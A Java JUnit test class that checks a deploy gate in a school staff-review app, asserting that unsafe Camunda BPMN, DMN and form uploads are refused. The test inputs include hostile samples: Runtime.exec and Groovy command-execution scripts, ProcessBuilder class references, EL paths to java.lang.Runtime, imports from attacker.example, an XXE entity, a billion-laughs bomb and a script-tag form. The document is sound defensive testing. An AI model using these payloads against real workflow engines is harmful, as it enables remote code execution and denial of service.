package org.reviewcycle.deploygate;

import static org.assertj.core.api.Assertions.assertThat;
import static org.reviewcycle.deploygate.Models.process;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;

import org.camunda.bpm.engine.RepositoryService;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.reviewcycle.process.AnnualReviewCycleProcess;
import org.reviewcycle.school.SchoolService;
import org.reviewcycle.staff.StaffService;
import org.reviewcycle.support.TestSchool;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.w3c.dom.Element;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.net.httpserver.HttpServer;

/**
 * Every refusal of the deploy gate as Camunda Modeler meets it: an admin posts a deployment to
 * /engine-rest/deployment/create (multipart, as the Modeler sends it) and gets a 400 whose message
 * and report name the resource, the element and the reason; no deployment of that name exists
 * afterwards. And the shipped cycle passes the same way.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
class DeployGateRestTest {

    private static final ObjectMapper JSON = new ObjectMapper();

    @LocalServerPort int port;
    @Autowired RepositoryService repository;
    @Autowired SchoolService schools;
    @Autowired StaffService staff;

    /** name of the case, resource name, content, the element named, words of the reason. */
    static Stream<Arguments> refusals() {
        String key = Models.key();
        String userTask = "<bpmn:userTask id=\"Task_Probe\" name=\"Probe\" %s>%s</bpmn:userTask>";
        return Stream.of(
                Arguments.of("script task", key + ".bpmn", process(key,
                        "<bpmn:scriptTask id=\"Task_Probe\" scriptFormat=\"javascript\">"
                                + "<bpmn:script>java.lang.Runtime.getRuntime().exec('id')</bpmn:script></bpmn:scriptTask>"),
                        "Task_Probe", "a script task runs code on the server"),
                Arguments.of("script listener", key + ".bpmn", process(key, userTask.formatted("",
                        "<bpmn:extensionElements><camunda:executionListener event=\"start\">"
                                + "<camunda:script scriptFormat=\"groovy\">'id'.execute()</camunda:script>"
                                + "</camunda:executionListener></bpmn:extensionElements>")),
                        "Task_Probe", "camunda:script runs code on the server"),
                Arguments.of("script condition", key + ".bpmn", Models.processWithFlows(key, """
                        <bpmn:sequenceFlow id="Flow_Scripted" sourceRef="Event_Start" targetRef="Event_End">
                          <bpmn:conditionExpression xsi:type="bpmn:tFormalExpression" language="javascript">true</bpmn:conditionExpression>
                        </bpmn:sequenceFlow>""", "camunda:historyTimeToLive=\"1\""),
                        "Flow_Scripted", "script language 'javascript'"),
                Arguments.of("camunda:class on a service task", key + ".bpmn", process(key,
                        "<bpmn:serviceTask id=\"Task_Probe\" camunda:class=\"java.lang.ProcessBuilder\" />"),
                        "Task_Probe", "names a Java class to run"),
                Arguments.of("camunda:class on a task listener", key + ".bpmn", process(key, userTask.formatted("",
                        "<bpmn:extensionElements><camunda:taskListener class=\"org.example.Evil\" event=\"create\" />"
                                + "</bpmn:extensionElements>")),
                        "Task_Probe", "camunda:taskListener class names a Java class"),
                Arguments.of("camunda:class written in Activiti's namespace", key + ".bpmn", process(key,
                        "<bpmn:serviceTask id=\"Task_Probe\" xmlns:activiti=\"http://activiti.org/bpmn\" "
                                + "activiti:class=\"java.lang.ProcessBuilder\" />"),
                        "Task_Probe", "uses activiti:class"),
                Arguments.of("a delegate that is not ours", key + ".bpmn", process(key,
                        "<bpmn:serviceTask id=\"Task_Probe\" camunda:delegateExpression=\"${runtimeService}\" />"),
                        "Task_Probe", "names runtimeService, which is not one of our delegates"),
                Arguments.of("a delegate expression that is more than a bean", key + ".bpmn", process(key,
                        "<bpmn:serviceTask id=\"Task_Probe\" camunda:delegateExpression=\"${execution.processEngineServices}\" />"),
                        "Task_Probe", "must name one of our beans"),
                Arguments.of("an expression naming a bean outside the allowlist", key + ".bpmn", process(key,
                        userTask.formatted("camunda:assignee=\"${repositoryService}\"", "")),
                        "Task_Probe", "names the bean repositoryService"),
                Arguments.of("a method of execution", key + ".bpmn", process(key,
                        userTask.formatted("camunda:assignee=\"${execution.getProcessEngineServices().getRuntimeService()}\"", "")),
                        "Task_Probe", "calls a method"),
                Arguments.of("getClass()", key + ".bpmn", process(key,
                        userTask.formatted("camunda:assignee=\"${revieweeUsername.getClass().forName('java.lang.Runtime')}\"", "")),
                        "Task_Probe", "calls a method"),
                Arguments.of("a method of our bean that is not allowed", key + ".bpmn", process(key,
                        userTask.formatted("camunda:dueDate=\"${reviewSchedule.toString()}\"", "")),
                        "Task_Probe", "calls the method toString() of reviewSchedule"),
                Arguments.of("the class of a variable", key + ".bpmn", process(key,
                        userTask.formatted("camunda:assignee=\"${revieweeUsername.class.classLoader}\"", "")),
                        "Task_Probe", "the way from a value to Java's classes"),
                Arguments.of("an expression in a task's name", key + ".bpmn", process(key,
                        "<bpmn:userTask id=\"Task_Probe\" name=\"${execution.processEngineServices}\" />"),
                        "Task_Probe", "reads a property of execution"),
                Arguments.of("a connector", key + ".bpmn", process(key,
                        "<bpmn:serviceTask id=\"Task_Probe\"><bpmn:extensionElements><camunda:connector>"
                                + "<camunda:connectorId>http-connector</camunda:connectorId></camunda:connector>"
                                + "</bpmn:extensionElements></bpmn:serviceTask>"),
                        "Task_Probe", "camunda:connector calls other systems"),
                Arguments.of("an external resource", key + ".bpmn", process(key,
                        userTask.formatted("camunda:resource=\"http://attacker.example/listener.groovy\"", "")),
                        "Task_Probe", "reads a file from outside the model"),
                Arguments.of("an embedded form", key + ".bpmn", process(key,
                        userTask.formatted("camunda:formKey=\"embedded:deployment:evil.html\"", "")),
                        "Task_Probe", "embedded or external form"),
                Arguments.of("a form bound to the latest version", key + ".bpmn", process(key,
                        userTask.formatted("camunda:formRef=\"SelfReflection\" camunda:formRefBinding=\"latest\"", "")),
                        "Task_Probe", "never \"latest\""),
                Arguments.of("a form without a binding", key + ".bpmn", process(key,
                        userTask.formatted("camunda:formRef=\"SelfReflection\"", "")),
                        "Task_Probe", "has no camunda:formRefBinding"),
                Arguments.of("a form that is not deployed with its model", key + ".bpmn", process(key,
                        userTask.formatted("camunda:formRef=\"SelfReflection\" camunda:formRefBinding=\"deployment\"", "")),
                        "Task_Probe", "the form SelfReflection is not in this deployment"),
                Arguments.of("no history time-to-live", key + ".bpmn", Models.processWithFlows(key,
                        "<bpmn:sequenceFlow id=\"Flow_Through\" sourceRef=\"Event_Start\" targetRef=\"Event_End\" />", ""),
                        key, "no history time-to-live"),
                Arguments.of("an import", key + ".bpmn", process(key, userTask.formatted("", ""))
                        .replace("<bpmn:process", "<bpmn:import importType=\"http://schemas.xmlsoap.org/wsdl/\" "
                                + "location=\"http://attacker.example/x.wsdl\" namespace=\"x\" /><bpmn:process"),
                        "Definitions_Probe", "reads a file from outside the deployment"),
                Arguments.of("our listener on another task", key + ".bpmn", process(key, userTask.formatted("",
                        "<bpmn:extensionElements><camunda:taskListener delegateExpression=\"${planningMeetingListener}\" "
                                + "event=\"create\" /></bpmn:extensionElements>")),
                        "Task_Probe", "planningMeetingListener serves Task_PlanningMeeting"),
                Arguments.of("a decision in JavaScript", key + ".dmn",
                        Models.decision(key, "", "", "expressionLanguage=\"javascript\""),
                        "InputEntry_Probe", "may only use FEEL"),
                Arguments.of("a decision's input expression in JUEL", key + ".dmn",
                        Models.decision(key, "", "expressionLanguage=\"juel\"", ""),
                        "InputExpression_Category", "may only use FEEL"),
                Arguments.of("a decision whose default language is Groovy", key + ".dmn",
                        Models.decision(key, "expressionLanguage=\"groovy\"", "", ""),
                        "Definitions_" + key, "may only use FEEL"),
                Arguments.of("a file that is too big", key + ".bpmn", process(key,
                        "<bpmn:userTask id=\"Task_Probe\"><bpmn:documentation>" + "x".repeat(300 * 1024)
                                + "</bpmn:documentation></bpmn:userTask>"),
                        null, "over the limit of 256 KB"),
                Arguments.of("a form with raw HTML", key + ".form", """
                        {"id": "%s", "type": "default", "components": [
                          {"id": "Html_Probe", "type": "html", "content": "<script>alert(1)</script>"}]}""".formatted(key),
                        "Html_Probe", "the form component type 'html'"),
                Arguments.of("a shipped form with a key no service reads", "SelfReflection.form", """
                        {"id": "SelfReflection", "type": "default", "components": [
                          {"id": "Field_Sneaky", "type": "checkbox", "key": "objectivesApproved", "label": "Approved"}]}""",
                        "Field_Sneaky", "the field key 'objectivesApproved' is not one our services read"),
                Arguments.of("a new form asking for answers", key + ".form", """
                        {"id": "%s", "type": "default", "components": [
                          {"id": "Field_Answer", "type": "textfield", "key": "finalReviewSignedOff", "label": "?"}]}""".formatted(key),
                        "Field_Answer", "is not one of the cycle's forms"),
                Arguments.of("a script file", "listener.js", "java.lang.Runtime.getRuntime().exec('id')",
                        null, "BPMN models (.bpmn), decisions (.dmn) and Camunda Forms (.form) only"),
                Arguments.of("the cycle without a listener our services need", "AnnualReviewCycle.bpmn",
                        Models.shippedCycleChanged(model -> {
                            var listeners = Models.byId(model, "Task_PlanningMeeting")
                                    .getElementsByTagNameNS(Models.CAMUNDA_NS, "taskListener");
                            var complete = (Element) listeners.item(1);
                            complete.getParentNode().removeChild(complete);
                        }),
                        "Task_PlanningMeeting", "must keep its task listener ${planningMeetingListener} on complete and create"),
                Arguments.of("the cycle with a task given to someone else", "AnnualReviewCycle.bpmn",
                        Models.shippedCycleChanged(model -> Models.byId(model, "Task_SelfReflection")
                                .setAttributeNS(Models.CAMUNDA_NS, "camunda:assignee", "${reviewerUsername}")),
                        "Task_SelfReflection", "camunda:assignee must be '${revieweeUsername}'"),
                Arguments.of("the cycle with another form on a task", "AnnualReviewCycle.bpmn",
                        Models.shippedCycleChanged(model -> Models.byId(model, "Task_MidYearCheck")
                                .setAttributeNS(Models.CAMUNDA_NS, "camunda:formRef", "FinalReview")),
                        "Task_MidYearCheck", "must show the form MidYearCheck, not FinalReview"),
                Arguments.of("the cycle without a task our services need", "AnnualReviewCycle.bpmn",
                        Models.shippedCycleChanged(model -> {
                            var task = Models.byId(model, "Task_HeadSignOff");
                            var renamed = model.createElementNS(Models.BPMN_NS, "bpmn:manualTask");
                            renamed.setAttribute("id", "Task_HeadSignOff");
                            renamed.setAttribute("name", "Signed on paper");
                            task.getParentNode().replaceChild(renamed, task);
                        }),
                        "Task_HeadSignOff", "must keep the user task Task_HeadSignOff"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("refusals")
    void refusesThroughEngineRestNamingTheElementAndTheReason(String what, String resource, String content,
            String element, String reason) throws Exception {
        String name = "gate " + UUID.randomUUID();
        var response = deploy("admin", name, null, Map.of(resource, content));

        assertThat(response.statusCode()).as(response.body()).isEqualTo(400);
        JsonNode body = JSON.readTree(response.body());
        assertThat(body.path("type").asText()).isEqualTo("ParseException");
        assertThat(body.path("message").asText()).contains(resource).contains(reason);
        JsonNode errors = body.path("details").path(resource).path("errors");
        assertThat(errors.isArray()).as(response.body()).isTrue();
        var named = new ArrayList<String>();
        errors.forEach(error -> named.add(error.path("mainElementId").isNull() ? null : error.path("mainElementId").asText()));
        assertThat(named).as(response.body()).contains(element);
        if (element != null) {
            assertThat(body.path("message").asText()).contains(element);
            if (!resource.endsWith(".form")) {
                // where in the XML, as Camunda Modeler shows the engine's own parse errors
                errors.forEach(error -> assertThat(error.path("line").asInt()).as(error.toString()).isPositive());
            }
        }
        assertThat(repository.createDeploymentQuery().deploymentName(name).count()).isZero();
    }

    @Test
    void aSchoolAdminIsRefusedTheSameForTheirOwnSchool() throws Exception {
        String name = "gate " + UUID.randomUUID();
        String key = Models.key();
        var response = deploy("hc.admin", name, "hillcrest", Map.of(key + ".bpmn", process(key,
                "<bpmn:serviceTask id=\"Task_Probe\" camunda:class=\"java.lang.ProcessBuilder\" />")));

        assertThat(response.statusCode()).as(response.body()).isEqualTo(400);
        assertThat(response.body()).contains("Task_Probe").contains("names a Java class to run");
        assertThat(repository.createDeploymentQuery().deploymentName(name).count()).isZero();
        assertThat(repository.createProcessDefinitionQuery().processDefinitionKey(key).count()).isZero();
    }

    @ParameterizedTest
    @CsvSource(value = {"teacher.mpg,", "hc.admin,littletown"})
    void whoMayNotDeployAtAllIsRefusedBeforeTheGate(String username, String tenant) throws Exception {
        String name = "gate " + UUID.randomUUID();
        String key = Models.key();
        var response = deploy(username, name, tenant, Map.of(key + ".bpmn", process(key,
                "<bpmn:userTask id=\"Task_Probe\" camunda:assignee=\"${revieweeUsername}\" />")));

        assertThat(response.statusCode()).as(response.body()).isEqualTo(403);
        assertThat(repository.createDeploymentQuery().deploymentName(name).count()).isZero();
        assertThat(repository.createProcessDefinitionQuery().processDefinitionKey(key).count()).isZero();
    }

    @Test
    void oneRefusedFileRefusesTheWholeDeployment() throws Exception {
        String name = "gate " + UUID.randomUUID();
        String good = Models.key();
        String bad = Models.key();
        var files = new LinkedHashMap<String, String>();
        files.put(good + ".bpmn", process(good, "<bpmn:userTask id=\"Task_Probe\" camunda:assignee=\"${revieweeUsername}\" />"));
        files.put(bad + ".bpmn", process(bad, "<bpmn:scriptTask id=\"Task_Probe\" scriptFormat=\"groovy\">"
                + "<bpmn:script>'id'.execute()</bpmn:script></bpmn:scriptTask>"));

        var response = deploy("admin", name, null, files);

        assertThat(response.statusCode()).as(response.body()).isEqualTo(400);
        assertThat(repository.createDeploymentQuery().deploymentName(name).count()).isZero();
        assertThat(repository.createProcessDefinitionQuery().processDefinitionKey(good).count()).isZero();
    }

    @Test
    void anExternalEntityIsNeverFetched() throws Exception {
        var fetched = new AtomicInteger();
        HttpServer attacker = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        attacker.createContext("/", exchange -> {
            fetched.incrementAndGet();
            byte[] secret = "fetched".getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, secret.length);
            exchange.getResponseBody().write(secret);
            exchange.close();
        });
        attacker.start();
        try {
            String key = Models.key();
            String name = "gate " + UUID.randomUUID();
            String xxe = process(key, "<bpmn:userTask id=\"Task_Probe\" name=\"&xxe;\" />").replaceFirst("\\?>",
                    "?><!DOCTYPE definitions [<!ENTITY xxe SYSTEM \"http://127.0.0.1:" + attacker.getAddress().getPort()
                            + "/secret\">]>");

            var response = deploy("admin", name, null, Map.of(key + ".bpmn", xxe));

            assertThat(response.statusCode()).as(response.body()).isEqualTo(400);
            assertThat(response.body()).contains("declares a DOCTYPE").doesNotContain("fetched");
            assertThat(fetched).as("requests the model's entity made").hasValue(0);
            assertThat(repository.createDeploymentQuery().deploymentName(name).count()).isZero();
        } finally {
            attacker.stop(0);
        }
    }

    @Test
    void entityExpansionIsRefusedBeforeAnythingIsExpanded() throws Exception {
        String key = Models.key();
        String name = "gate " + UUID.randomUUID();
        var entities = new StringBuilder("<!ENTITY lol0 \"lol\">");
        for (int i = 1; i <= 9; i++) {
            entities.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i - 1) + ";").repeat(10)).append("\">");
        }
        String laughs = process(key, "<bpmn:userTask id=\"Task_Probe\" name=\"&lol9;\" />")
                .replaceFirst("\\?>", "?><!DOCTYPE definitions [" + entities + "]>");

        var response = deploy("admin", name, null, Map.of(key + ".bpmn", laughs));

        assertThat(response.statusCode()).as(response.body()).isEqualTo(400);
        // refused at the DOCTYPE: had the parser begun expanding, the JDK's limit would have stopped it
        // with its own message ("entity expansions"), and the engine's parser would have been next
        assertThat(response.body()).contains("declares a DOCTYPE").doesNotContain("expansion limit")
                .doesNotContain("JAXP");
        assertThat(repository.createDeploymentQuery().deploymentName(name).count()).isZero();
    }

    @Test
    void theShippedCyclePassesAsCamundaModelerDeploysIt() throws Exception {
        var school = TestSchool.create(schools, staff);
        var files = new LinkedHashMap<String, String>();
        files.put("AnnualReviewCycle.bpmn", Models.shipped("AnnualReviewCycle.bpmn"));
        files.put("ReviewPlan.dmn", Models.shipped("ReviewPlan.dmn"));
        for (String form : List.of("SelfReflection", "PlanningMeeting", "ApproveObjectives", "AcknowledgeObjectives",
                "RespondToObjectivesDisagreement", "MidYearCheck", "LessonObservation", "SelfReview", "FinalReview",
                "RevieweeSignOff", "RespondToFinalReviewDisagreement", "HeadSignOff")) {
            files.put(form + ".form", Models.shipped(form + ".form"));
        }
        String name = "gate " + UUID.randomUUID();

        var response = deploy("admin", name, school.school().code(), files);

        assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
        assertThat(repository.createDeploymentQuery().deploymentName(name).count()).isOne();
        assertThat(repository.createProcessDefinitionQuery().deploymentId(JSON.readTree(response.body()).path("id").asText())
                .processDefinitionKey(AnnualReviewCycleProcess.KEY).count()).isOne();
    }

    /** A deployment posted as Camunda Modeler posts it: multipart, one part per file. */
    private HttpResponse<String> deploy(String username, String name, String tenant, Map<String, String> files)
            throws IOException, InterruptedException {
        String boundary = "----" + UUID.randomUUID();
        var body = new StringBuilder();
        part(body, boundary, "deployment-name", null, name);
        part(body, boundary, "deployment-source", null, "Camunda Modeler");
        part(body, boundary, "deploy-changed-only", null, "true");
        if (tenant != null) {
            part(body, boundary, "tenant-id", null, tenant);
        }
        files.forEach((file, content) -> part(body, boundary, file, file, content));
        body.append("--").append(boundary).append("--\r\n");
        var request = HttpRequest.newBuilder(URI.create("http://localhost:" + port + "/engine-rest/deployment/create"))
                .header("Authorization", "Basic " + Base64.getEncoder()
                        .encodeToString((username + ":demo").getBytes(StandardCharsets.UTF_8)))
                .header("Content-Type", "multipart/form-data; boundary=" + boundary)
                .POST(HttpRequest.BodyPublishers.ofString(body.toString(), StandardCharsets.UTF_8)).build();
        return HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString());
    }

    private static void part(StringBuilder body, String boundary, String name, String filename, String content) {
        body.append("--").append(boundary).append("\r\nContent-Disposition: form-data; name=\"").append(name).append('"');
        if (filename != null) {
            body.append("; filename=\"").append(filename).append("\"\r\nContent-Type: application/octet-stream");
        }
        body.append("\r\n\r\n").append(content).append("\r\n");
    }
}
